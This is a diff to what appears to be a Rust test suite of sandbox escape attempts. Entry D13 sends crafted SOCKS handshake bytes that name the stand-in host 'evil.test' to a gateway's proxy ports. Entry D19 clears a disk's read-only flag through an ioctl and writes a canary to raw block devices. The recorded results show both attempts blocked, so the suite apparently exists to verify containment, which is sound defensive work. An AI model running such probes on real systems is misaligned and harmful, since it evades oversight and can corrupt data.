@@ -47,6 +47,46 @@ seen += ', ' + tcp('93.184.216.14', 7000)",
         ..NONE
     },
     Attempt {
+        id: "D13",
+        what: "SOCKS to the gateway, and to an allowed host on the ports of HTTP",
+        code: "\
+first = (b'\\5\\1\\0', b'\\5\\1\\0\\5\\1\\0\\3\\x09evil.test\\1\\xbb', b'\\4\\1\\1\\xbb\\x5d\\xb8\\xd8\\x42c4n4ry\\0',
+         b'\\4\\1\\1\\xbb\\0\\0\\0\\1c4n4ry\\0evil.test\\0.allowed.test\\0')
+to_gateway = each(((to, port), tcp(to, port, first[0])) for to in (GATEWAY, GATEWAY6)
+                  for port in (1080, 1081, 3128, 8000, 8080, 8118, 8888, 9050))
+answers = {raw_http(to, data, port)[:3] for to in (GATEWAY, '93.184.216.10') for port in (80, 443) for data in first}
+seen = (to_gateway, sorted(answers))",
+        seen: "('all ECONNREFUSED', ['400', 'ECO'])",
+        told: &[told("tcp", "198.18.0.1:1080", "host_not_allowed")],
+        contacts: &["tcp 93.184.216.10:80*", "tcp 93.184.216.10:443*"],
+        waits: true,
+        ..NONE
+    },
+    Attempt {
+        id: "D19",
+        what: "the disk that all guests of a root have",
+        code: "\
+import fcntl
+def written(path):
+    try:
+        with open(path, 'r+b', 0) as disk:
+            # BLKROSET: to be written to.
+            try:
+                fcntl.ioctl(disk, 0x125d, struct.pack('i', 0))
+            except OSError:
+                pass
+            disk.write(b'c4n4ry')
+            os.fsync(disk.fileno())
+            return 'written'
+    except OSError as problem:
+        return error(problem)
+disks = sorted(os.listdir('/sys/block'))
+shared = [line.split()[2] for line in open('/proc/self/mountinfo') if ' - virtiofs ' in line or ' - 9p ' in line]
+seen = (disks, [written('/dev/' + disk) for disk in disks], shared)",
+        seen: "(['vda'], ['EBUSY'], [])",
+        ..NONE
+    },
+    Attempt {
         id: "D8",
         what: "data in the first segment, to a host that is not allowed",
         code: "\
